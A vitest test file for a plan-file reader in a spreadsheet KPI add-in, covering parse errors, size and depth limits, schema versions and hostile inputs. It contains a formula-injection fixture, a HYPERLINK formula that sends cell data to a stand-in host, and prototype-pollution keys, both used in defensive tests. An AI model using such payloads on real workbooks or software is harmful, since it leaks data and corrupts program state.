import { describe, expect, it } from 'vitest';
import { migrate, type Migration } from '../../../src/plan/migrations.ts';
import { LARGEST_PLAN_FILE, readPlanFile, writePlanFile } from '../../../src/plan/planFile.ts';
import { planFromTemplate } from '../../../src/plan/templates.ts';
import { planSheet } from '../../../src/sheets/planSheet.ts';
import { atOnce } from '../../../src/pieces.ts';
import { planWrites } from '../../../taskpane/excel/planWrites.ts';

const plan = planFromTemplate('new_team', 'en');
const fileOf = (document: object): string => JSON.stringify({ format: 'telekpi-plan', ...document });
const findingsIn = (text: string) => {
  const read = readPlanFile(text);
  return read.ok
    ? []
    : read.findings.map(({ code, where, args }) => [code, where?.kind === 'path' ? where.path.join('.') : '', args]);
};
const withFirst = (patch: object) => ({
  ...plan,
  indicators: plan.indicators.map((indicator, index) => (index === 0 ? { ...indicator, ...patch } : indicator)),
});

describe('a plan file', () => {
  it('[S-40] should say what it is, for which schema, before anything else', () => {
    const text = writePlanFile(plan, { schemaAddress: 'https://kpi.example.com/schema/plan.schema.json' });
    expect(Object.keys(JSON.parse(text) as object).slice(0, 4)).toEqual(['$schema', 'format', 'schemaVersion', 'name']);
    expect(text.endsWith('}\n')).toBe(true);
    expect(readPlanFile(text)).toEqual({ ok: true, value: { plan } });
  });

  it('[S-40] should be read after an editor has put a byte order mark before it, and Windows line ends into it', () => {
    expect(readPlanFile(`\ufeff${writePlanFile(plan).replaceAll('\n', '\r\n')}`)).toEqual({
      ok: true,
      value: { plan },
    });
  });

  it('[S-40] should be refused with line and character where it is no JSON', () => {
    const lines = writePlanFile(plan).split('\n');
    lines[3] = '  "name": new team,';
    expect(findingsIn(lines.join('\n'))).toEqual([['planFile.syntax', '', { line: 4, column: 11, found: 'n' }]]);
    expect(findingsIn('')).toEqual([['planFile.syntax', '', { line: 1, column: 1, found: '' }]]);
    expect(findingsIn('{"a": "x\ny"}')).toEqual([['planFile.syntax', '', { line: 1, column: 9, found: 'U+000A' }]]);
    expect(findingsIn('{\n"format": 1, "format": 2}')).toEqual([
      ['planFile.repeatedKey', '', { line: 2, column: 14, key: 'format' }],
    ]);
  });

  it.each(['[]', 'null', '1', '"telekpi-plan"'])('[S-40] should be refused when it is %s', (text) => {
    expect(findingsIn(text)).toEqual([['planFile.notPlan', '', {}]]);
  });

  it('[S-40] should be refused without the mark of its format', () => {
    expect(findingsIn(JSON.stringify(plan))).toEqual([['planFile.notPlan', 'format', {}]]);
  });

  it('[S-40] should be refused by its size before it is read', () => {
    const size = LARGEST_PLAN_FILE + 1;
    expect(findingsIn(' '.repeat(size))).toEqual([['planFile.tooLarge', '', { size, most: LARGEST_PLAN_FILE }]]);
  });

  it('[S-40] should be refused when it is nested without end', () => {
    const text = `{"format":"telekpi-plan","indicators":${'['.repeat(400_000)}`;
    expect(findingsIn(text)).toEqual([['planFile.tooDeep', '', { line: 1, column: 58 }]]);
  });

  it('[S-40] should be refused with ten thousand indicators in a sentence, not in ten thousand', () => {
    const indicators = Array.from({ length: 10_000 }, () => ({ id: 'x' }));
    expect(findingsIn(fileOf({ ...plan, indicators }))).toEqual([['plan.tooLong', 'indicators', { maximum: 60 }]]);
  });

  it('[S-40] should tell the first fifty of many errors, and how many there are', () => {
    const keys = Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`key${index}`, 1]));
    const found = findingsIn(fileOf({ ...plan, ...keys }));
    expect(found).toHaveLength(51);
    expect(found.at(-1)).toEqual(['planFile.more', '', { count: 950 }]);
  });

  it.each(['__proto__', 'constructor', 'prototype'])('[S-40] should be refused for a key %s at any depth', (key) => {
    const text = fileOf(withFirst({ gate: { effect: 'cap', hostile: { polluted: true } } }));
    expect(findingsIn(text.replace('hostile', key))).toEqual([['plan.forbiddenKey', 'indicators.0.gate', { key }]]);
    expect(Reflect.get({}, 'polluted')).toBeUndefined();
  });

  it('[S-40] should be refused for characters that no cell can hold, with their place', () => {
    expect(findingsIn(fileOf(withFirst({ name: 'a\u0000b' })))).toEqual([
      ['planFile.controlCharacter', 'indicators.0.name', { found: 'U+0000' }],
    ]);
    expect(findingsIn(fileOf({ ...plan, name: 'half \ud83d' }))).toEqual([
      ['planFile.controlCharacter', 'name', { found: 'U+D83D' }],
    ]);
    expect(findingsIn(fileOf({ ...plan, name: '销售 😀\n2' }))).toEqual([]);
  });

  it('[S-40] should tell every wrong entry with its path', () => {
    const text = fileOf({ ...withFirst({ weight: '20', cycle: 'daily' }), cap: 123 }).replace('123', '1e999');
    expect(findingsIn(text)).toEqual([
      ['plan.wrongType', 'indicators.0.weight', { expected: 'number', type: 'text' }],
      ['plan.notAllowed', 'indicators.0.cycle', { found: 'daily', allowed: 'weekly, monthly, quarterly, yearly' }],
      ['plan.wrongType', 'cap', { expected: 'number', type: 'notFinite' }],
    ]);
  });

  it('[S-42] should bring names that look like formulas into the workbook as text', () => {
    const hostile = '=HYPERLINK("http://example.com/?"&A1)';
    const read = readPlanFile(fileOf({ ...withFirst({ name: hostile }), name: hostile }));
    const ops = read.ok ? atOnce(planWrites(planSheet(read.value.plan, 'en'))) : null;
    expect(JSON.stringify(ops?.formulas)).not.toContain('HYPERLINK');
    const written = (ops?.contents ?? []).flatMap((op) => (op.kind === 'values' ? op.values.flat() : []));
    expect(written.filter((cell) => cell === `'${hostile}`)).toHaveLength(2);
    expect(written).not.toContain(hostile);
  });
});

describe('versions of the format', () => {
  const toOne: Migration = ({ title, ...rest }) => ({ ...rest, name: title });
  const toTwo: Migration = ({ name, ...rest }) => ({ ...rest, names: [name] });
  const steps = new Map([
    [0, toOne],
    [1, toTwo],
  ]);

  it('[S-40] should be brought up to date step by step', () => {
    expect(migrate({ schemaVersion: 0, title: 'A', kept: 1 }, steps, 2)).toEqual({
      ok: true,
      value: { schemaVersion: 2, names: ['A'], kept: 1 },
    });
    expect(migrate({ schemaVersion: 1, name: 'A' }, steps, 2)).toMatchObject({ value: { names: ['A'] } });
  });

  it('[S-40] should be left to the schema where no step is known', () => {
    for (const schemaVersion of [-1, 0.5, 'one', null]) {
      expect(migrate({ schemaVersion }, steps, 2)).toEqual({ ok: true, value: { schemaVersion } });
    }
    expect(findingsIn(fileOf({ ...plan, schemaVersion: 0 }))).toEqual([
      ['plan.notAllowed', 'schemaVersion', { found: '0', allowed: '1' }],
    ]);
    expect(findingsIn(fileOf({ ...plan, schemaVersion: undefined }))).toEqual([['plan.missing', 'schemaVersion', {}]]);
  });

  it('[S-40] should be refused when it is from the future, whatever else it holds', () => {
    expect(findingsIn(fileOf({ schemaVersion: 2, plan: 'of a kind nobody knows yet' }))).toEqual([
      ['planFile.newer', 'schemaVersion', { version: 2, known: 1 }],
    ]);
  });
});
